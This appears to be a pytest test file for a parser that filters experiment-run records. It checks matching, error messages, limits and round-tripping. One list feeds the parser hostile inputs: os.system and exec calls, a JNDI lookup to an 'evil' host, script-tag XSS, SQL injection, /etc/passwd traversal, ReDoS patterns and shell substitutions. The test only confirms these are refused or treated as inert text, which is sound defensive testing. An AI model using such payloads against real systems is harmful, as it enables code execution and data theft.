"""Filters: what they match, what they refuse and where, and that nothing in them is executed."""

import math
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from experiment_utils.results.query import MOST_CHARACTERS, MOST_NESTING, QueryError, parse
from experiment_utils.results.query_tree import (
    All,
    AnyOf,
    Comparison,
    Contains,
    Everything,
    Exists,
    Not,
    OneOf,
    Query,
    Value,
)

RUN: dict[str, Any] = {
    "agent.name": "qrl",
    "agent.critic.learning_rate": 0.001,
    "phases.0.num_epochs": 50,
    "layers": [256, 256],
    "clip": None,
    "is_slow": True,
    "note": "a \"quoted\" word, ünïcödé\n",
    "my-key": 1,
    "my key": 2,
    "not": 3,
    "width": math.nan,
    "seed": 3,
    "state": "finished",
    "run": "antmaze-medium-8f3a-s3",
    "experiment": "ant",
}
TRUE = [
    "", "  \n ", "agent.name = qrl", "agent.name==qrl", 'agent.name="qrl"', "agent.name = 'qrl'", "`agent.name` = qrl",
    "agent.critic.learning_rate = 1e-3", "agent.critic.learning_rate = .001", "phases.0.num_epochs = 50.0",
    "phases.0.num_epochs >= 50", "phases.0.num_epochs<1e2", "phases.0.num_epochs > -1", "layers = [256, 256.0]",
    "layers contains 256", "layers ~ '256'", "layers != [256]", "clip = null", "clip exists", "clip != 0",
    "is_slow = true", "is_slow = True", "is_slow != 1", "is_slow != yes", 'note ~ "ünï"', "note ~ *word*",
    r"note = 'a \"quoted\" word, \u00fcn\u00efc\u00f6d\u00e9\n'", "my-key = 1", '"my key" = 2', "`my key` = 2",
    "`not` = 3", "seed in (1, 2, 3)", "seed in (3.0,)", "seed ~ 3", "not seed in ()", "agent.name in (sac, qrl)",
    "agent.name > abc", "run ~ medium", "run ~ ant*s3", "run ~ *", "run ~ a*m*m*s3", "not run ~ *ant", "width != 1",
    "absent missing", "missing absent", "exists seed", "not absent exists", "not absent = 1", "not absent != 1",
    "state = finished and experiment = ant", "seed = 9 or seed = 3", "NOT seed = 9 And (seed = 1 OR seed = 3)",
    "seed = 3 or seed = 9 and seed = 8", "not seed = 9 and seed = 3", "not (seed = 3 and seed = 9)", "(((seed = 3)))",
]  # fmt: skip
FALSE = [
    "agent.name = QRL", "agent.name = q", "agent.name != qrl", "agent.name < 3", "agent.name > 3", "seed = '3'",
    "seed < nine", "seed < true", "is_slow = 1", "is_slow > 0", "clip = 0", "clip = false", "clip < 1", "clip missing",
    "layers = [256]", "layers = 256", "layers < [300, 300]", "layers ~ 25", "width = nan", "width < 1", "width >= 1",
    "absent = 1", "absent != 1", "absent < 1", "absent >= 1", "absent in (1, null)", "absent ~ ''", "absent = null",
    "absent exists", "seed in ()", "run ~ ant*medium", "run ~ *8f3a", "run ~ antmaze*antmaze*", "run ~ m?dium",
    "(seed = 3 or seed = 9) and seed = 8", "not seed = 3 or seed = 9", "not not seed = 9",
]  # fmt: skip


@pytest.mark.parametrize("text", TRUE)
def test_a_filter_that_fits_the_run(text: str):
    assert parse(text).matches(RUN)


@pytest.mark.parametrize("text", FALSE)
def test_a_filter_that_does_not_fit_the_run(text: str):
    assert not parse(text).matches(RUN)


@pytest.mark.parametrize("text", [*TRUE, *FALSE])
def test_the_text_of_a_filter_says_the_same(text: str):
    query = parse(text)
    assert parse(str(query)) == query


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("seed = ", "column 8: expected a value, got the end."),
        ("seed", "column 5: expected one of = != < <= > >= ~ in exists missing after 'seed', got the end."),
        ("seed is 3", "column 6: expected one of = != < <= > >= ~ in exists missing after 'seed', got 'is'."),
        ("= 3", "column 1: expected a key, got '='."),
        ("seed = and", "column 8: expected a value, got 'and'; in quotes it is text."),
        ("note = two words", "column 12: expected AND, OR or the end, got 'words'; text that is more than a word "
         "goes in quotes."),
        ("run = lr=1", "column 9: expected AND, OR or the end, got '='; text that is more than a word goes in quotes."),
        ("seed = 3)", "column 9: expected AND, OR or the end, got ')'."),
        ("(seed = 3", "column 10: expected AND, OR or ')', got the end."),
        ("seed in 3", "column 9: expected a list in parentheses, got '3'."),
        ("seed in (3 4)", "column 12: expected ',' or ')', got '4'."),
        ("layers = [1", "column 12: expected ',' or ']', got the end."),
        ("seed = 3 and", "column 13: expected a key, got the end."),
        ("note = 'open", "column 8: the quote ' is never closed."),
        (r"note = 'a\q'", r"column 10: unknown escape '\\q'; a backslash itself is \\."),
        ("note = `key`", "column 8: expected a value, got 'key'."),
        ("seed ! 3", "column 6: did not expect '!' here."),
        ("seed < 1e999", "column 8: '1e999' is too large for a number."),
        ("seeed = 3", "column 1: unknown key 'seeed'. Did you mean 'seed'?"),
        ("seed=3 and learning_rate = 1", "column 12: unknown key 'learning_rate'. Did you mean "
         "'agent.critic.learning_rate'?"),
        ("zzzzzzzz = 1", "column 1: unknown key 'zzzzzzzz'."),
        ("x" * 60 + " = 1", f"column 1: unknown key '{'x' * 37}...'."),
        ("a\nb\x1b = 1", r"column 1: unknown key 'a'."),
    ],
)  # fmt: skip
def test_what_is_wrong_is_one_line_that_says_where(text: str, problem: str):
    with pytest.raises(QueryError) as refused:
        parse(text, known_keys=RUN)
    assert str(refused.value) == f"filter, {problem}"
    assert f"column {refused.value.column}:" in problem


def test_what_every_run_has_is_known_without_being_named():
    assert parse("seed = 1 and state = failed and run ~ x and experiment = y", known_keys=()) != Everything()


def test_a_filter_is_neither_too_long_nor_too_deep():
    parse("seed = " + "1" * (MOST_CHARACTERS - 7))
    with pytest.raises(QueryError, match="at most 1000 characters, got 1001"):
        parse("seed = " + "1" * (MOST_CHARACTERS - 6))
    for opening, closing in (("(", ")"), ("not ", "")):
        parse(opening * MOST_NESTING + "seed = 1" + closing * MOST_NESTING)
        with pytest.raises(QueryError, match="nested more than 20 deep"):
            parse(opening * (MOST_NESTING + 1) + "seed = 1" + closing * (MOST_NESTING + 1))
    with pytest.raises(QueryError, match="nested more than 20 deep"):
        parse("seed = " + "[" * 400 + "]" * 400)


HOSTILE = [
    "__import__('os').system('touch canary')", "seed = __import__('os').system('touch canary')",
    "lambda run: open('canary', 'w')", "exec(\"open('canary','w')\")", "eval(compile('1', '', 'exec'))",
    "seed.__class__.__mro__ = 1", "agent.name = {{7*7}}", "agent.name = ${jndi:ldap://evil/a}",
    "agent.name = '<script>alert(1)</script>'", "<img src=x onerror=alert(1)>", "seed = 1; drop table runs",
    "run = '../../etc/passwd'", "run ~ '" + "*a" * 400 + "'", "run ~ " + "(a+)+$", "run = '%s%s%n'",
    "note = '\x00\x1b[31m\u202e\ud800'", "seed = 1 or 1 = 1", "!!python/object/apply:os.system ['touch canary']",
    "$(touch canary)", "`touch canary`", "(" * 900, "'" * 999, "\\" * 1000, "seed = " + "9" * 990, "not " * 249,
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_filter_is_plain_text_or_refused(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)
    before = time.perf_counter()
    try:
        query = parse(text)
    except QueryError as error:
        assert len(str(error).splitlines()) == 1
        assert str(error).isprintable()
    else:
        assert not query.matches(RUN | {"run": "a" * 5000 + "b"}) or text == "seed = 1 or 1 = 1"
    assert time.perf_counter() - before < 0.5
    assert list(tmp_path.iterdir()) == []


def test_a_thousand_runs_are_filtered_within_a_blink():
    query = parse("agent.name = qrl and (seed in (0, 1, 2) or not agent.critic.learning_rate < 1e-3) and run ~ ant*s*3")
    runs = [RUN | {"seed": number % 5} for number in range(1000)]
    seconds = []
    for _ in range(3):
        before = time.perf_counter()
        assert sum(map(query.matches, runs)) == 1000
        seconds.append(time.perf_counter() - before)
    assert min(seconds) < 0.02


TEXTS = st.one_of(st.sampled_from(["a", "not", "1e3", "true", "x y", '"', "\\", "*", ""]), st.text(max_size=6))
ATOMS = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False), TEXTS)
VALUES: st.SearchStrategy[Value] = st.recursive(ATOMS, lambda part: st.lists(part, max_size=3).map(tuple), max_leaves=4)
LEAVES: st.SearchStrategy[Query] = st.one_of(
    st.builds(Comparison, TEXTS, st.sampled_from(["=", "!=", "<", "<=", ">", ">="]), VALUES),
    st.builds(OneOf, TEXTS, st.lists(VALUES, max_size=3).map(tuple)),
    st.builds(Contains, TEXTS, TEXTS),
    st.builds(Exists, TEXTS),
)


def joined(parts: st.SearchStrategy[Query]) -> st.SearchStrategy[Query]:
    several = st.lists(parts, min_size=2, max_size=3).map(tuple)
    return st.one_of(st.builds(Not, parts), st.builds(All, several), st.builds(AnyOf, several))


QUERIES = st.recursive(LEAVES, joined, max_leaves=6).filter(lambda query: len(str(query)) <= MOST_CHARACTERS)


@given(QUERIES)
def test_any_filter_written_out_and_read_again_is_itself(query: Query):
    assert parse(str(query)) == query


@given(st.text(alphabet="ab1 .=!<>~()[],'\"`\\\nnotandori", max_size=40))
def test_any_text_is_a_filter_or_an_error_of_one_line(text: str):
    try:
        query = parse(text)
    except QueryError as error:
        assert len(str(error).splitlines()) == 1
    else:
        assert query.matches(RUN) in (True, False)
        assert parse(str(query)) == query
